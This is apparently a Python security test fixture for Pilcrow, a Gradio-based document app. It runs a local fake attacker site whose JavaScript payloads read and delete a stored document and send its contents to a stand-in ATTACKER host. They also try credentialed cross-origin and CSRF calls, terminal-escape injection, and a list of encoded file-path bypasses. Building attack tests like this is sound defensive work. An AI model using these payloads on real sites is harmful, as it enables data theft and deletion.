"""A foreign web site that attacks Pilcrow, what it tries, and the Pilcrow that it attacks."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING

from tests.support.page_fakes import ARTICLES
from tests.support.visitors import Visitor

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "open sesame"

INSIDE = """<!doctype html><title>nothing</title><script>
document.title = "OWNED";
(async () => {
  const page = await (await fetch("/")).text();
  const config = JSON.parse(/window.gradio_config = (.*?);<.script>/.exec(page)[1]);
  const api = config.components.find((one) => one.props.elem_id === "api").id;
  const ask = async (data) => (await fetch("/gradio_api/component_server", {
    method: "POST", headers: { "content-type": "application/json" },
    body: JSON.stringify({ data, component_id: api, session_hash: "x", fn_name: "ask" }),
  })).json();
  const read = await ask({ name: "read", document: "kyoto.txt", key: "", start: 0 });
  await ask({ name: "remove", ids: JSON.stringify(["kyoto.txt"]), sure: true });
  const leak = encodeURIComponent(JSON.stringify(read).slice(0, 900));
  await fetch(`/gradio_api/file=ATTACKER/leak/${leak}.png`);
})();
</script>"""
"""What the site would run on Pilcrow's origin, served as a picture."""

OUTSIDE = """<!doctype html><title>busy</title><body><script>
const at = "VICTIM";
const quietly = (act) => Promise.resolve().then(act).catch(() => null);
const loaded = (tag, set) => new Promise((done) => {
  const node = document.createElement(tag);
  node.onload = node.onerror = done;
  Object.assign(node, set);
  document.body.append(node);
});
const call = (name, more) => JSON.stringify({
  data: { name, ...more }, component_id: 1, session_hash: "x", fn_name: "ask",
});
(async () => {
  const got = [];
  const take = async (url, how) => quietly(async () => {
    got.push(await (await fetch(at + url, { credentials: "include", ...how })).text());
  });
  for (const url of ["", "config", "gradio_api/info", "theme.css", "gradio_api/openapi.json"]) {
    await take(url, {});
    await take(url, { mode: "no-cors" });
  }
  const types = ["text/plain", "application/json", "application/x-www-form-urlencoded"];
  for (let id = 0; id < 12; id++) {
    for (const type of types) {
      await take("gradio_api/component_server", {
        method: "POST", headers: { "content-type": type },
        body: call("remove", { ids: '["kyoto.txt"]', sure: true }).replace(":1,", `:${id},`),
      });
    }
    await take("gradio_api/component_server/", {
      method: "POST", mode: "no-cors",
      body: call("remove", { ids: '["kyoto.txt"]', sure: true }).replace(":1,", `:${id},`),
    });
  }
  const far = at + "gradio_api/file=ATTACKER/x.png";
  await loaded("img", { src: far });
  await loaded("img", { src: at + "gradio_api/custom_component/%1b]0;PWNED%07/client/x/y" });
  await loaded("script", { src: far });
  await loaded("link", { rel: "stylesheet", href: far });
  await loaded("iframe", { src: at });
  await loaded("iframe", { src: far });
  await loaded("object", { data: far, type: "text/html" });
  await quietly(() => fetch("ATTACKER/got/", { method: "POST", body: got.join("") }));
  document.title = "tried";
})();
</script>"""
"""What the site can do from its own page, without being visited anew."""

LINK = """<!doctype html><title>link</title><a href="VICTIM">a page about cables</a>"""


def spellings(address: str) -> list[str]:
    """Paths that name another host's file for Gradio, or might."""
    rest = address.removeprefix("http://")
    once = "".join(f"%{ord(c):02x}" for c in address)
    return [
        f"gradio_api/file={address}/x.png",
        f"gradio_api/file/{address}/x.png",
        f"gradio_api/file={once}/x.png",
        f"gradio_api/file%3D{address}/x.png",
        f"gradio_api/%66ile={address}/x.png",
        f"gradio_api/file={once.replace('%', '%25')}/x.png",
        f"gradio_api/file=HTTP://{rest}/x.png",
        f"gradio_api/file=hTTp:%2f%2f{rest}/x.png",
        f"gradio_api/file=http:\\\\{rest}\\x.png",
        f"gradio_api/file=http:%5c%5c{rest}%5cx.png",
        f"gradio_api/file=http:/{rest}/x.png",
        f"gradio_api/file=%20{address}/x.png",
        f"gradio_api/file=%09{address}/x.png",
        f"gradio_api/file=https://{rest}/x.png",
        f"gradio_api/file=//{rest}/x.png",
        f"gradio_api/file=ftp://{rest}/x.png",
        f"gradio_api/file={address}/x.png?download=1",
        "gradio_api/file=data:text/html,<script>document.title='OWNED'</script>",
        f"gradio_api/proxy={address}/x.png",
        f"file={address}/x.png",
        f"file/{address}/x.png",
        f"//gradio_api/file={address}/x.png",
    ]


@dataclass
class Site:
    """The attacker's web site."""

    address: str
    victim: str = ""
    asked: list[tuple[str, str]] = field(default_factory=list)
    """Paths it was asked for, each with the asker's name for itself."""
    told: list[bytes] = field(default_factory=list)
    """What its own page has sent home."""

    @property
    def prey(self) -> list[tuple[str, str]]:
        """Requests that did not come from a person's browser looking at it, and all leaks."""
        return [(path, who) for path, who in self.asked if "Mozilla" not in who or "/leak/" in path]


@contextmanager
def site(host: str) -> Iterator[Site]:
    """The site under this name of this computer's."""
    made = Site("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append((self.path, self.headers.get("User-Agent", "")))
            page = {"/": OUTSIDE, "/link": LINK}.get(self.path, INSIDE)
            if self.path.endswith(".ico"):
                page = ""
            page = page.replace("ATTACKER", made.address).replace("VICTIM", made.victim)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            made.told.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.address = f"http://{host}:{server.server_port}"
    Thread(target=server.serve_forever, daemon=True).start()
    yield made
    server.shutdown()
    server.server_close()


@dataclass
class Victim:
    """Pilcrow, and everything it says on its terminal."""

    address: str
    terminal: Path
    password: str

    def visit(self, page: Page) -> None:
        """Opens the page as its owner does, with the password where it asks."""
        page.goto(self.address)
        if self.password:
            log_in(page, self.password)
        page.wait_for_selector("html[data-pilcrow=ready]")

    def has_lost(self, context: BrowserContext) -> set[str]:
        """Documents that are no longer there."""
        cookies = {
            c["name"]: c["value"] for c in context.cookies() if c["name"].startswith("access-token")
        }
        owner = Visitor(self.address, cookies=cookies)
        listed = owner.api("library")["slots"]["library"]
        owner.close()
        return {name for name in ARTICLES if name not in listed}


def log_in(page: Page, password: str) -> None:
    """Logs in as a person does: again, where the form was not alive yet and took no notice."""
    from playwright.sync_api import TimeoutError as TookNoNotice

    for last in (False, False, False, True):
        page.fill("input[type=text], textarea", "pilcrow")
        page.fill("input[type=password]", password)
        try:
            with page.expect_response(lambda reply: "/login" in reply.url, timeout=15_000):
                page.keyboard.press("Enter")
            return
        except TookNoNotice:
            if last:
                raise


@contextmanager
def pilcrow(folder: Path, password: str) -> Iterator[Victim]:
    """Pilcrow in a process of its own."""
    program = [
        sys.executable,
        "-m",
        "tests.programs.attacked_program",
        str(folder / "store"),
        password,
    ]
    (folder / "store").mkdir()
    terminal = folder / "terminal"
    with terminal.open("w") as said:
        process = subprocess.Popen(
            program, cwd=ROOT, stdout=subprocess.PIPE, stderr=said, text=True
        )
        assert process.stdout
        try:
            yield Victim(process.stdout.readline().strip(), terminal, password)
        finally:
            process.kill()
            with terminal.open("a") as rest:
                rest.write(process.communicate()[0])
